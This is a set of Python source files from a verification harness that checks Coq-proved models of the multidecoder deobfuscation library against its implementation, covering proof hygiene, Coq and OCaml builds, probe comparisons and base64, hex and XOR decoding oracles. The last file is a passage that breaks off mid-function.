sys.path.insert(0, HERE)

import common  # noqa: E402
import coqbuild  # noqa: E402
from common import VERIF, Runner, canon, enc, jsonable, log, unjson  # noqa: E402


class Ctx:
    def __init__(self, pid, tier, seed):
        self.pid = pid
        self.tier = tier
        self.seed = seed
        self.rng = random.Random(seed * 1000003 + int(hashlib.sha256(pid.encode()).hexdigest()[:8], 16))
        self.runner = None
        self.evals = 0
        self.distinct = set()
        self.nontrivial = set()
        self.disagreements = []
        self.violations = []
        self.known_hits = []
        self.samples = []
        self.dist = {}
        self.probe_counts = {}
        self.notes = []
        self.deadline = None
        self.escalated = []
        self.diff_inputs = []       # drift-directed search: (data, depth) on which the current tree and the baseline snapshot behave differently
        self.diff_histories = []    # ... sequences after which they differ although they agree on the last input alone
        self.drift_stats = None

    @property
    def thorough(self):
        return self.tier == "thorough"

    def budget(self, quick, thorough):
        # source drift escalation: when a function in a file this property is anchored in differs from the baseline the model was
        # written against, the quick tier uses the thorough generator counts for this run (never a violation by itself)
        if self.thorough:
            return thorough
        if self.escalated and isinstance(quick, int) and isinstance(thorough, int):
            return max(quick, min(thorough, quick * 6))
        return quick

    def budget3(self, quick, escalated, thorough):
        return thorough if self.thorough else (escalated if self.escalated else quick)

    def count(self, key, n=1):
        self.dist[key] = self.dist.get(key, 0) + n

    def sample(self, s):
        if len(self.samples) < 12:
            self.samples.append(jsonable(s))

    def compare(self, probe, args_list, impl, nontrivial=None, oracle=None, classify=None, rerun=True):
        """Run model probe and implementation on the same arguments; record disagreements.
        impl(arg) -> canonical value; oracle(arg, impl_out) -> None | message."""
        args_list = list(args_list)
        if not args_list:
            return
        model_out = self.runner.run([(probe, a) for a in args_list])
        self.probe_counts[probe] = self.probe_counts.get(probe, 0) + len(args_list)
        first_out = []
        for k, (a, m) in enumerate(zip(args_list, model_out)):
            try:
                i = canon(impl(a))
            except Exception as ex:  # harness-level failure of the implementation call
                i = ["raise", type(ex).__name__]
            self.evals += 1
            key = hashlib.sha256((probe + " " + enc(a)).encode()).digest()[:10]
            self.distinct.add(key)
            nt = nontrivial(a, i) if nontrivial else True
            if nt:
                self.nontrivial.add(key)
            if classify:
                self.count(probe + ":" + classify(a, i))
            if k < 2 and len(self.samples) < 12:
                self.sample({"probe": probe, "input": a, "impl": i})
            if i != m:
                if len(self.disagreements) < 50:
                    self.disagreements.append({"probe": probe, "input": jsonable(a), "model": jsonable(m), "impl": jsonable(i)})
                else:
                    self.count("disagreements_not_listed")
            if oracle:
                msg = oracle(a, i)
                if msg:
                    self.violation(probe, a, msg, got=i)
            first_out.append(i)
        # history independence: the implementation is asked again, later and in reverse order, about a sample of the same arguments
        # (the model is a pure function; hidden caches / shared mutable results show up here)
        if rerun:
            step = max(1, len(args_list) // 150)
            for k in range(len(args_list) - 1, -1, -step):
                try:
                    again = canon(impl(args_list[k]))
                except Exception as ex:
                    again = ["raise", type(ex).__name__]
                if again != first_out[k]:
                    self.count("history_dependent:" + probe)
                    if len(self.disagreements) < 50:
                        self.disagreements.append({"probe": probe + " (asked again later)", "input": jsonable(args_list[k]), "model": jsonable(model_out[k]), "impl": jsonable(again)})
                    self.violation(probe, args_list[k], "the implementation gave a different answer when asked again later in the same process (result depends on history)", got=again, cls="history")
                    break

    def violation(self, site, inp, message, got=None, cls=None):
        if len(self.violations) < 200:
            self.violations.append({"site": site, "input": jsonable(inp), "message": message, "got": jsonable(got), "class": cls})
        else:
            self.count("violations_not_listed")


def drift_consumers(ctx, prop):
    """inputs found by the drift-directed search, through this property's eyes: whole-scan model comparison (properties that speak about scans), the property's
    scan-level oracle when it has one, and histories replayed on a fresh scanner"""
    from decoder_common import ToolRecorder
    from scan_common import ScanTimeout, views_total, with_timeout
    from multidecoder.multidecoder import Multidecoder
    whole = getattr(prop, "DRIFT_SCAN", ctx.pid in ("C01", "C02", "C03", "C04", "C05", "C06", "C07", "C08", "C09", "C11", "C19", "C20")) or bool(ctx.escalated)
    orc = getattr(prop, "scan_oracle", None)
    args, outs = [], []
    md = Multidecoder()
    for data, depth in ctx.diff_inputs[:25]:
        k = 10 if depth is None else depth
        with ToolRecorder() as rec:
            try:
                tree = with_timeout(lambda: md.scan(data, k), 30)
                out = ["ok", common.node_val(tree)]
            except ScanTimeout:
                out, tree = ["hang"], None
            except Exception as ex:  # noqa: BLE001
                out, tree = ["raise", type(ex).__name__], None
        ctx.evals += 1
        ctx.count("drift_input:" + out[0])
        if orc is not None:
            for msg in orc(ctx, data, k, tree, out) or []:
                ctx.violation("drift-directed scan", [k, data], msg)
                break
        if whole and len(data) < 4000:
            pe_t, xor_t = rec.tables()
            args.append([k, data, pe_t, xor_t])
            outs.append(out)
    if args:
        model = ctx.runner.run([("scan_default", a) for a in args])
        ctx.probe_counts["scan_default"] = ctx.probe_counts.get("scan_default", 0) + len(args)
        for a, o, m in zip(args, outs, model):
            if m == ["hang"]:
                ctx.count("model_fuel_exhausted")
            elif common.canon(o) != m and len(ctx.disagreements) < 50:
                ctx.disagreements.append({"probe": "scan_default (drift-directed input)", "input": jsonable(a[:2]), "model": jsonable(m), "impl": jsonable(o)})
    for hist in ctx.diff_histories[:3]:
        # a scan must be a function of its input: after this history, on one scanner, the last input's tree must be the tree a fresh scanner gives
        if not hist:
            continue
        shared = Multidecoder()
        try:
            last = None
            for data, depth in hist:
                last = common.node_val(shared.scan(data) if depth is None else shared.scan(data, depth))
            data, depth = hist[-1]
            fresh = subprocess_scan(data, depth)
            ctx.evals += 1
            if fresh is not None and enc(canon(last)) != fresh:
                ctx.violation("scan-history", [[list(h) for h in hist[-6:]]], f"after {len(hist)} earlier scans on the same scanner, scan({data[:60]!r}, depth={depth}) differs from the same call in a fresh process", cls="history")
        except Exception:  # noqa: BLE001
            log(traceback.format_exc())


def subprocess_scan(data, depth):
    import subprocess
    code = ("import sys,json;sys.path.insert(0,%r);from common import node_val,canon;from multidecoder.multidecoder import Multidecoder;"
            "d=bytes.fromhex(sys.argv[1]);k=sys.argv[2];t=Multidecoder().scan(d) if k=='-' else Multidecoder().scan(d,int(k));"
            "from common import enc;print(enc(canon(node_val(t))))" % os.path.dirname(os.path.abspath(__file__)))
    p = subprocess.run([sys.executable, "-c", code, data.hex(), "-" if depth is None else str(depth)], stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=120, env=dict(os.environ))
    if p.returncode != 0:
        return None
    return p.stdout.decode().strip()


def write_replay(pid, obj):
    d = os.path.join(VERIF, "replays")
    os.makedirs(d, exist_ok=True)
    blob = json.dumps(obj, indent=1, sort_keys=True)
    p = os.path.join(d, f"{pid}-{hashlib.sha256(blob.encode()).hexdigest()[:12]}.json")
    open(p, "w").write(blob)
    return p


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("pid")
    ap.add_argument("--tier", default=os.environ.get("VERIF_TIER", "quick"), choices=["quick", "thorough"])
    ap.add_argument("--replay")
    ap.add_argument("--no-build", action="store_true", help="skip Coq/runner rebuild (development only)")
    args = ap.parse_args()
    pid = args.pid
    seed = int(os.environ.get("VERIF_SEED", "0") or 0)
    t0 = time.time()
    prop = importlib.import_module("props." + pid)
    ctx = Ctx(pid, args.tier, seed)

    try:
        import fingerprints
        anchors = [json.loads(l) for l in open(os.path.join(VERIF, "properties.jsonl"))]
        files = next(a["anchors"]["files"] for a in anchors if a["id"] == pid)
        ctx.escalated = fingerprints.drift_for(files)
        if ctx.escalated:
            log(f"[{pid}] source drift in {ctx.escalated[:5]}: escalating to the thorough generator budgets")
        alldrift = fingerprints.drift()
        if alldrift and not args.replay:
            # the source differs from the baseline the model was written against: look for inputs on which the two behave differently and hand them to
            # this property's own probes (harness/driftsearch.py; a difference alone is never a verdict)
            import driftsearch
            res = driftsearch.search(random.Random(seed * 7919 + 13), alldrift, 150 if args.tier == "thorough" else 30)
            ctx.diff_inputs, ctx.diff_histories, ctx.drift_stats = res["inputs"], res["histories"], res["stats"]
            log(f"[{pid}] drift-directed search ({alldrift[:3]}...): {res['stats']}")
    except Exception:
        log(traceback.format_exc())
    if args.replay:
        data = unjson(json.load(open(args.replay)))
        ctx.runner = Runner()
        rc = prop.replay(ctx, data)
        sys.exit(rc)

    proof = {"obligations": 0, "discharged": 0, "theorems": [], "assumptions": {}, "error": None, "hygiene": [], "coqchk": None}
    broken = []  # list of (kind, name, detail)
    # 1. translator
    try:
        import translate
        tinfo = translate.generate()
    except Exception as ex:  # fail closed: an untranslatable source is a broken obligation
        tinfo = {"error": f"{type(ex).__name__}: {ex}"}
        broken.append(("translator", "translate.generate", tinfo["error"]))
        log(traceback.format_exc())
    # 2. theorems
    if not args.no_build:
        bad = coqbuild.hygiene()
        proof["hygiene"] = bad
        for b in bad:
            broken.append(("hygiene", b, "forbidden vernacular"))
        pr = coqbuild.check_property(pid)
        proof["theorems"] = pr["theorems"]
        proof["obligations"] = len(pr["theorems"])
        proof["discharged"] = len(pr["discharged"])
        proof["assumptions"] = pr["assumptions"]
        proof["coq_wall_s"] = pr["wall_s"]
        if pr["error"]:
            proof["error"] = pr["error"]
            broken.append(("proof", f"{pr['error']['file']}:{pr['error']['line']}", pr["error"]["message"]))
        else:
            allowed = set(getattr(prop, "ALLOWED_AXIOMS", []))
            for th, axs in pr["assumptions"].items():
                for ax in axs:
                    if ax not in allowed:
                        broken.append(("axiom", th, f"depends on undeclared axiom {ax}"))
            for th in pr.get("unprinted", []):
                broken.append(("proof", th, "no Print Assumptions output found"))
        if ctx.thorough and not pr["error"]:
            rc, out, dt = coqbuild.coqchk(pid)
            proof["coqchk"] = {"rc": rc, "wall_s": round(dt, 1), "tail": out[-1500:]}
            if rc == 124:
                ctx.notes.append("coqchk timed out; the kernel check by coqc stands, the independent re-check was not completed on this run")
            elif rc != 0:
                broken.append(("coqchk", pid, out[-500:]))
        # 3. runner
        ok, out = coqbuild.build_runner()
        if not ok:
            broken.append(("runner", "extraction/ocaml build", out[-800:]))
    # 4. probes
    run_error = None
    try:
        ctx.runner = Runner()
        prop.run(ctx)
        if ctx.diff_inputs or ctx.diff_histories:
            drift_consumers(ctx, prop)
    except Exception as ex:
        run_error = f"{type(ex).__name__}: {ex}"
        log(traceback.format_exc())
        broken.append(("harness", "probe run", run_error))

    for d in ctx.disagreements[:1]:
        pass
    if ctx.disagreements:
        names = sorted({d["probe"] for d in ctx.disagreements})
        broken.append(("correspondence", ",".join(names), f"{len(ctx.disagreements)} model/implementation disagreements"))

    # 5. decide
    known = [k for k in common.load_known().get("open", []) if k["property"] == pid]
    matchers = getattr(prop, "KNOWN_MATCHERS", {})
    new_violations = []
    known_seen = {}
    for v in ctx.violations:
        hit = None
        for k in known:
            f = matchers.get(k["matcher"])
            if f and f(unjson(v)):
                hit = k
                break
        if hit:
            known_seen.setdefault(hit["id"], (hit, v))
        else:
            new_violations.append(v)

    if broken and not new_violations and hasattr(prop, "search"):
        # something no longer checks: look harder for a concrete failing input
        log(f"[{pid}] obligations/correspondence broken; searching for a failing input")
        before = len(ctx.violations)
        try:
            prop.search(ctx)
        except Exception:
            log(traceback.format_exc())
        for v in ctx.violations[before:]:
            hit = None
            for k in known:
                f = matchers.get(k["matcher"])
                if f and f(unjson(v)):
                    hit = k
                    break
            if hit:
                known_seen.setdefault(hit["id"], (hit, v))
            else:
                new_violations.append(v)

    lines = []
    rc = 0
    for kid, (k, v) in sorted(known_seen.items()):
        lines.append(f"KNOWN-FINDING: property={pid} {k['id']} {k['what']}")
    if new_violations:
        v = new_violations[0]
        rp = write_replay(pid, {"property": pid, "kind": "failing-input", "violation": v, "seed": seed, "tier": args.tier,
                                "broken": [list(b) for b in broken], "more": new_violations[1:10]})
        lines.append(f"VIOLATION property={pid} replay={rp}")
        rc = 1
    elif broken:
        rp = write_replay(pid, {"property": pid, "kind": "no-longer-checks", "broken": [list(b) for b in broken],
                                "disagreements": ctx.disagreements[:10], "seed": seed, "tier": args.tier,
                                "note": "no concrete failing input was found; the named theorem / probe no longer checks"})
        lines.append(f"VIOLATION property={pid} replay={rp} no-failing-input-found")
        rc = 1

    # 6. evidence
    wall = time.time() - t0
    obligations = proof["obligations"] + len(getattr(prop, "EXTRA_OBLIGATIONS", []))
    ev = {
        "property_id": pid,
        "tier": args.tier,
        "seed": seed,
        "level": "proof",
        "coverage": {
            "obligations": max(proof["obligations"], 1) if not args.no_build else 1,
            "discharged": proof["discharged"],
            "checker_cmd": f"make -C /verif/coq Properties/{pid}.vo (coqc 8.16.1, full .vo build)"
                           + ("; coqchk -o MD.Properties." + pid if ctx.thorough else ""),
            "trusted_base": getattr(prop, "TRUSTED_BASE", []) + [
                "Coq 8.16.1 kernel + vm_compute (no native_compute)",
                "harness/translate.py (regenerates coq/Generated from /repo source)",
                "extraction: ExtrOcamlBasic only, no Extract Constant; ocaml/driver.ml; OCaml 4.13.1",
                "correspondence harness (harness/*.py): generators, canonicalisers, oracles",
            ],
            "theorems": proof["theorems"],
            "print_assumptions": {k: (v or "Closed under the global context") for k, v in proof["assumptions"].items()},
            "proof_error": proof["error"],
            "hygiene_findings": proof["hygiene"],
            "coqchk": proof["coqchk"],
            "translator": tinfo,
            "evaluations": ctx.evals,
            "distinct_nontrivial": len(ctx.nontrivial),
            "distinct": len(ctx.distinct),
            "rule": getattr(prop, "RULE", ""),
            "samples": ctx.samples or [{"note": "no probe case was run"}],
            "traces_validated_against_impl": ctx.evals - len(ctx.disagreements),
            "disagreements": len(ctx.disagreements),
            "probe_counts": ctx.probe_counts,
            "input_distribution": ctx.dist,
            "broken": [list(b) for b in broken],
            "known_findings_seen": sorted(known_seen),
            "source_drift_escalation": ctx.escalated,
            "notes": ctx.notes,
        },
        "assumptions": getattr(prop, "ASSUMPTIONS", []),
        "wall_s": round(wall, 2),
        "violations": len(new_violations) + (1 if (broken and not new_violations) else 0),
    }
    os.makedirs(os.path.join(VERIF, "evidence"), exist_ok=True)
    json.dump(ev, open(os.path.join(VERIF, "evidence", pid + ".json"), "w"), indent=1)
    for l in lines:
        print(l)
    print(f"[{pid}] tier={args.tier} seed={seed} theorems={proof['discharged']}/{proof['obligations']} "
          f"cases={ctx.evals} disagreements={len(ctx.disagreements)} violations={len(new_violations)} "
          f"known={len(known_seen)} broken={len(broken)} wall={wall:.1f}s")
    if broken:
        for b in broken[:8]:
            print("   broken:", b[0], b[1], "-", str(b[2])[:300].replace("\n", " | "))
    for v in new_violations[:5]:
        print("   violation:", v["site"], "-", v["message"][:300])
    sys.exit(rc)


if __name__ == "__main__":
    main()
