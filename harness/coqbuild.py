"""Build the Coq development (full .vo build), check a property file, build the extracted runner."""
from __future__ import annotations

import glob
import hashlib
import os
import re
import shutil
import subprocess
import time

from common import BUILD, COQ, RUNNER, VERIF, FileLock, log, sha

WARN = "-arg -w -arg -notation-overridden,-deprecated-hint-without-locality,-ambiguous-paths,-unused-pattern-matching-variable,-non-recursive"
FORBIDDEN = re.compile(
    r"\b(Admitted|admit|Axiom|Axioms|Parameter|Parameters|Conjecture|Hypothesis|Variable|Variables|Hypotheses)\b"
    r"|Unset\s+Guard|bypass_check|type-in-type|impredicative-set|Admit\s+Obligations|Unset\s+Positivity|Unset\s+Universe"
)


def sh(cmd, cwd=None, timeout=1800):
    t0 = time.time()
    p = subprocess.run(cmd, cwd=cwd, shell=isinstance(cmd, str), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                       timeout=timeout)
    out = "\n".join(l for l in p.stdout.decode(errors="replace").split("\n") if "conda" not in l)
    return p.returncode, out, time.time() - t0


def coq_files():
    fs = []
    for d in ("Lib", "Generated", "Regex", "Model", "Proofs", "Properties"):
        fs += sorted(glob.glob(os.path.join(COQ, d, "**", "*.v"), recursive=True))
    fs.append(os.path.join(COQ, "Extract", "Probes.v"))
    return [os.path.relpath(f, COQ) for f in fs if os.path.exists(f)]


def write_project():
    txt = "-Q . MD\n" + WARN + "\n" + "\n".join(coq_files()) + "\n"
    p = os.path.join(COQ, "_CoqProject")
    if not os.path.exists(p) or open(p).read() != txt or not os.path.exists(os.path.join(COQ, "Makefile")):
        open(p, "w").write(txt)
        rc, out, _ = sh("coq_makefile -f _CoqProject -o Makefile", cwd=COQ)
        if rc != 0:
            raise RuntimeError("coq_makefile failed: " + out)


def hygiene():
    """No Admitted / Axiom / ... anywhere in the development (Section variables are allowed:
    they are checked to sit inside a Section)."""
    bad = []
    for f in coq_files() + ["Extract/Extract.v"]:
        depth = 0
        txt = open(os.path.join(COQ, f)).read()
        txt = re.sub(r"\(\*.*?\*\)", lambda m: " " * len(m.group()), txt, flags=re.S)  # strip comments
        for i, line in enumerate(txt.split("\n"), 1):
            if re.match(r"\s*Section\b", line):
                depth += 1
            if re.match(r"\s*End\b", line) and depth > 0:
                depth -= 1
            m = FORBIDDEN.search(line)
            if m:
                w = m.group()
                if w in ("Variable", "Variables", "Hypothesis", "Hypotheses") and depth > 0:
                    continue
                bad.append(f"{f}:{i}: {line.strip()}")
    return bad


def make(targets=(), jobs=16, timeout=1500):
    with FileLock(os.path.join(BUILD, ".lock")):
        write_project()
        cmd = ["timeout", str(timeout), "make", "-j%d" % jobs] + list(targets)
        rc, out, dt = sh(cmd, cwd=COQ, timeout=timeout + 30)
        return rc, out, dt


def first_error(out: str):
    m = re.search(r'File "\./([^"]+)", line (\d+), characters [^\n]*\n((?:.*\n){0,12})', out)
    if not m:
        return None
    return {"file": m.group(1), "line": int(m.group(2)), "message": m.group(3).strip()[:800]}


def check_property(pid: str, timeout=900):
    """Force-recompile Properties/<pid>.v; return dict(theorems, discharged, assumptions, error)."""
    rel = f"Properties/{pid}.v"
    path = os.path.join(COQ, rel)
    src = open(path).read()
    src_nc = re.sub(r"\(\*.*?\*\)", "", src, flags=re.S)
    theorems = re.findall(r"^\s*(?:Theorem|Example)\s+(\w+)", src_nc, flags=re.M)
    vo = path[:-2] + ".vo"
    with FileLock(os.path.join(BUILD, ".lock")):
        write_project()
        if os.path.exists(vo):
            os.remove(vo)
        rc, out, dt = sh(["timeout", str(timeout), "make", "-j16", rel[:-2] + ".vo"], cwd=COQ, timeout=timeout + 30)
    res = {"file": rel, "theorems": theorems, "wall_s": round(dt, 2), "error": None, "assumptions": {}, "log_tail": out[-3000:]}
    if rc != 0:
        err = first_error(out) or {"file": rel, "line": 0, "message": out[-800:]}
        res["error"] = err
        # which theorems precede the error (when it is in the property file itself)
        done = []
        if err["file"] == rel:
            upto = "\n".join(src.split("\n")[: err["line"] - 1])
            upto_nc = re.sub(r"\(\*.*?\*\)", "", upto, flags=re.S)
            done = [t for t in theorems if re.search(r"Print Assumptions\s+%s\b" % t, upto_nc)]
        res["discharged"] = done
        return res
    # parse Print Assumptions blocks, in order
    blocks = re.split(r"(?m)^(?=Closed under the global context|Axioms:)", out)
    blocks = [b for b in blocks if b.startswith("Closed under") or b.startswith("Axioms:")]
    printed = re.findall(r"Print Assumptions\s+(\w+)", src_nc)
    for name, b in zip(printed, blocks):
        if b.startswith("Closed"):
            res["assumptions"][name] = []
        else:
            body = b[len("Axioms:"):]
            body = re.split(r"(?m)^(?:COQC|make|File )", body)[0]
            axs = re.findall(r"(?m)^([\w.']+)\s*:", body)
            res["assumptions"][name] = axs
    res["discharged"] = list(theorems)
    res["unprinted"] = [t for t in theorems if t not in res["assumptions"]]
    return res


def coqchk(pid: str, timeout=7200):
    """Independent re-check (coqchk -o) of EVERY property module and everything they depend on, in one run (the closure is shared: ~20 min for one property,
    not much more for all twenty), cached on the content of all compiled files: a thorough check of any property triggers it when the cache is stale.
    A timeout is reported as such (the kernel check by coqc stands); only a genuine coqchk failure is a broken obligation."""
    import glob
    import json as _json
    vos = sorted(glob.glob(os.path.join(COQ, "**", "*.vo"), recursive=True))
    key = sha(b"".join(os.path.relpath(v, COQ).encode() + hashlib.sha256(open(v, "rb").read()).digest() for v in vos if "/Extract/" not in v))[:20]
    cache = os.path.join(BUILD, f"coqchk_{key}.json")
    with FileLock(os.path.join(BUILD, ".coqchk.lock")):
        if os.path.exists(cache):
            d = _json.load(open(cache))
            return d["rc"], "(cached run over all property modules) " + d["out"], d["dt"]
        mods = ["MD.Properties." + os.path.basename(v)[:-3] for v in vos if "/Properties/" in v]
        if f"MD.Properties.{pid}" not in mods:
            mods.append(f"MD.Properties.{pid}")
        rc, out, dt = sh(["timeout", str(timeout), "coqchk", "-silent", "-o", "-Q", ".", "MD"] + mods, cwd=COQ, timeout=timeout + 30)
        out = f"modules: {' '.join(m.split('.')[-1] for m in mods)}\n" + out[-4000:]
        if rc == 0:
            _json.dump({"rc": rc, "out": out, "dt": dt}, open(cache, "w"))
        return rc, out, dt


def build_runner(force=False):
    """Extract the model and compile the OCaml correspondence runner (cached on the extracted text)."""
    with FileLock(os.path.join(BUILD, ".lock")):
        odir = os.path.join(BUILD, "ocaml")
        os.makedirs(odir, exist_ok=True)
        write_project()
        rc, out, _ = sh(["timeout", "1500", "make", "-j16", "Extract/Probes.vo"], cwd=COQ, timeout=1600)
        if rc != 0:
            return False, out
        rc, out, _ = sh(["timeout", "600", "coqc", "-Q", COQ, "MD", os.path.join(COQ, "Extract", "Extract.v")], cwd=odir,
                        timeout=700)
        if rc != 0:
            return False, out
        shutil.copy(os.path.join(VERIF, "ocaml", "driver.ml"), os.path.join(odir, "driver.ml"))
        h = sha(b"".join(open(os.path.join(odir, f), "rb").read() for f in ("model.ml", "model.mli", "driver.ml")))
        stamp = os.path.join(BUILD, "runner.stamp")
        if not force and os.path.exists(RUNNER) and os.path.exists(stamp) and open(stamp).read() == h:
            return True, "cached"
        rc, out, _ = sh("ocamlfind ocamlopt -O3 -w -a model.mli model.ml driver.ml -o ../runner.new", cwd=odir, timeout=900)
        if rc != 0:
            return False, out
        os.replace(os.path.join(BUILD, "runner.new"), RUNNER)
        open(stamp, "w").write(h)
        return True, "built"
