"""Shared machinery for the checks: value protocol, model runner, implementation access,
evidence, known findings.  Runs under /venv/bin/python with PYTHONPATH=/repo/src."""
from __future__ import annotations

import fcntl
import hashlib
import json
import os
import random
import subprocess
import sys
import time

VERIF = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
REPO = os.environ.get("VERIF_REPO", "/repo")
SRC = os.path.join(REPO, "src")
COQ = os.path.join(VERIF, "coq")
BUILD = os.path.join(VERIF, "build")
RUNNER = os.path.join(BUILD, "runner")

if SRC not in sys.path:
    sys.path.insert(0, SRC)


def log(*a):
    print(*a, file=sys.stderr, flush=True)


# ---------------------------------------------------------------- value protocol
def enc(v) -> str:
    if isinstance(v, bool):
        return "i1" if v else "i0"
    if isinstance(v, int):
        return "i%d" % v
    if isinstance(v, (bytes, bytearray)):
        return "b" + bytes(v).hex()
    if isinstance(v, str):
        return "s" + ",".join(str(ord(c)) for c in v)
    if isinstance(v, (list, tuple)):
        return "( " + " ".join(enc(x) for x in v) + " )" if v else "( )"
    raise TypeError(type(v))


def dec(text: str):
    toks = text.split()
    pos = 0

    def value():
        nonlocal pos
        t = toks[pos]
        pos += 1
        if t == "(":
            items = []
            while toks[pos] != ")":
                items.append(value())
            pos += 1
            return items
        k, body = t[0], t[1:]
        if k == "i":
            return int(body)
        if k == "b":
            return bytes.fromhex(body)
        if k == "s":
            return "".join(chr(int(x)) for x in body.split(",")) if body else ""
        raise ValueError(t)

    return value()


def canon(v):
    """Canonical python form used on both sides: tuples -> lists, bool -> int."""
    if isinstance(v, bool):
        return int(v)
    if isinstance(v, (list, tuple)):
        return [canon(x) for x in v]
    if isinstance(v, bytearray):
        return bytes(v)
    return v


def node_val(n):
    """multidecoder Node -> canonical list (type, value, obfuscation, start, end, children)."""
    return [n.type, bytes(n.value), n.obfuscation, n.start, n.end, [node_val(c) for c in n.children]]


def make_node(v):
    from multidecoder.node import Node

    t, val, obf, s, e, kids = v
    return Node(t, val, obf, s, e, children=[make_node(k) for k in kids])


def check_parents(n, parent=None, path="root"):
    """Parent-pointer aliasing is outside the value-level model: checked on the implementation side."""
    errs = []
    if n.parent is not parent:
        errs.append(f"{path}: parent pointer does not name the node whose child list holds it")
    for i, c in enumerate(n.children):
        errs.extend(check_parents(c, n, f"{path}.{i}"))
    return errs


def impl_call(fn, *args, timeout=None):
    """Run an implementation function, canonicalising exceptions."""
    try:
        return ["ok", canon(fn(*args))]
    except RecursionError:
        return ["raise", "RecursionError"]
    except Exception as ex:  # noqa: BLE001
        return ["raise", type(ex).__name__]


# ---------------------------------------------------------------- model runner
class Runner:
    def __init__(self):
        if not os.path.exists(RUNNER):
            raise RuntimeError("model runner not built: run `make -C /verif setup`")

    def run(self, cases):
        """cases: list of (probe_name, python value). Returns list of python values."""
        if not cases:
            return []
        inp = "\n".join(name + " " + enc(arg) for name, arg in cases) + "\n"
        p = subprocess.run(
            ["bash", "-c", "ulimit -s unlimited 2>/dev/null; exec " + RUNNER],
            input=inp.encode(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=3600,
        )
        lines = p.stdout.decode().split("\n")
        if p.returncode != 0 or len(lines) < len(cases):
            raise RuntimeError(f"model runner failed rc={p.returncode} got {len(lines)} lines for {len(cases)} cases: "
                               + p.stderr.decode()[-500:])
        return [dec(l) for l in lines[: len(cases)]]


# ---------------------------------------------------------------- known findings
def load_known():
    p = os.path.join(VERIF, "known_findings.json")
    if not os.path.exists(p):
        return {"open": [], "fixed": []}
    return json.load(open(p))


# ---------------------------------------------------------------- misc
def sha(b: bytes) -> str:
    return hashlib.sha256(b).hexdigest()[:16]


def jsonable(v):
    if isinstance(v, (bytes, bytearray)):
        return {"hex": bytes(v).hex()}
    if isinstance(v, (list, tuple)):
        return [jsonable(x) for x in v]
    if isinstance(v, dict):
        return {str(k): jsonable(x) for k, x in v.items()}
    return v


def unjson(v):
    if isinstance(v, dict) and set(v) == {"hex"}:
        return bytes.fromhex(v["hex"])
    if isinstance(v, list):
        return [unjson(x) for x in v]
    if isinstance(v, dict):
        return {k: unjson(x) for k, x in v.items()}
    return v


class FileLock:
    def __init__(self, path):
        self.path = path

    def __enter__(self):
        os.makedirs(os.path.dirname(self.path), exist_ok=True)
        self.f = open(self.path, "w")
        fcntl.flock(self.f, fcntl.LOCK_EX)
        return self

    def __exit__(self, *a):
        fcntl.flock(self.f, fcntl.LOCK_UN)
        self.f.close()
