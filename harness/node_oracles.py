"""Implementation-side oracles that inspect EVERY node of a scan result (or of a decoder's output) and check the
relation the property states between the node and the text it replaced.  Written from the property texts (C10, C12-C16),
independently of the Coq model.  Each oracle returns a list of messages; `walk_tree` applies them to every node."""
from __future__ import annotations

import base64
import binascii
import re as stdre
from urllib.parse import unquote_to_bytes

HTML_LB = stdre.compile(rb"&#(?:x[0-9a-fA-F]{1,4}|\d{1,4});")
B64CHARS = stdre.compile(rb"[A-Za-z0-9+/=]")


def walk(node, fn, parent=None, out=None):
    """node: multidecoder Node; fn(node, parent) -> list of messages"""
    out = [] if out is None else out
    if parent is not None:
        out.extend(fn(node, parent))
    for c in node.children:
        walk(c, fn, node, out)
    return out


def covered(n, parent):
    return bytes(parent.value[n.start:n.end])


# ------------------------------------------------------------------ C13
def rfc4648(text):
    """RFC 4648 decoding of the base64 CHARACTERS of a text (alphabet characters; padding is not data); None if undecodable"""
    chars = b"".join(stdre.findall(rb"[A-Za-z0-9+/]", text))
    if len(chars) % 4 == 1:
        return None
    try:
        return base64.b64decode(chars + b"=" * (-len(chars) % 4), validate=True)
    except (binascii.Error, ValueError):
        return None


def c13_node(n, parent):
    msgs = []
    txt = covered(n, parent)
    if n.obfuscation == "encoding.base64":
        if n.type == "":
            cleaned = HTML_LB.sub(b"", txt).replace(b"\r", b"").replace(b"\n", b"")
            if b"<\x00  \x00" in cleaned:
                return msgs     # undocumented marker form: outside the property's wording
            want = rfc4648(cleaned)
        else:
            m = stdre.search(rb"\(\s*['\"]([^'\"]*)['\"]\s*\)", txt)
            want = rfc4648(m.group(1)) if m else None
        if want is None:
            msgs.append(f"base64 node over {txt[:80]!r}: covered text has no RFC 4648 decoding but a node was reported")
        elif bytes(n.value) != want:
            msgs.append(f"base64 node over {txt[:80]!r}: value {bytes(n.value)[:60]!r} != RFC 4648 decoding {want[:60]!r}")
    elif n.obfuscation in ("decoded.hexadecimal", "encoding.hexidecimal"):
        if n.type == "":
            digits = txt
        else:
            m = stdre.search(rb"\(\s*'([^']*)'\s*\)", txt)
            digits = m.group(1) if m else b"?"
        digits = stdre.sub(rb"[\s,]+", b"", digits)
        try:
            want = bytes.fromhex(digits.decode("ascii"))
        except (ValueError, UnicodeDecodeError):
            want = None
        if want is None or bytes(n.value) != want:
            msgs.append(f"hex node over {txt[:80]!r}: value {bytes(n.value)[:40]!r} is not the bytes spelled by the digits")
    elif n.obfuscation.startswith("cipher.xor") and n.obfuscation[10:].isdigit():
        key = int(n.obfuscation[10:])
        if key > 255 or bytes(n.value) != bytes(b ^ key for b in parent.value):
            msgs.append(f"xor child with key {key}: value is not the parent's bytes XORed with that single-byte key")
    elif n.obfuscation == "cipher.multibyte_xor":
        if len(n.value) != len(parent.value):
            msgs.append("multibyte xor child: length differs from the parent, no repeating key can produce it")
    return msgs


# ------------------------------------------------------------------ C14
def c14_node(n, parent):
    msgs = []
    txt = covered(n, parent)
    if n.obfuscation == "unescape.xml":
        items = stdre.findall(rb"&#([xX][0-9a-fA-F]{2}|[0-9]{1,3});", txt)
        rebuilt = b"".join(b"&#" + i + b";" for i in items)
        if rebuilt != txt or len(items) < 5:
            msgs.append(f"xml node does not cover exactly a run of >= 5 numeric references: {txt[:80]!r}")
        else:
            vals = [int(i[1:], 16) if i[:1] in b"xX" else int(i) for i in items]
            if any(v > 255 for v in vals) or bytes(n.value) != bytes(vals):
                msgs.append(f"xml node over {txt[:60]!r}: value {bytes(n.value)[:40]!r} != referenced bytes")
    elif n.obfuscation == "function.chr":
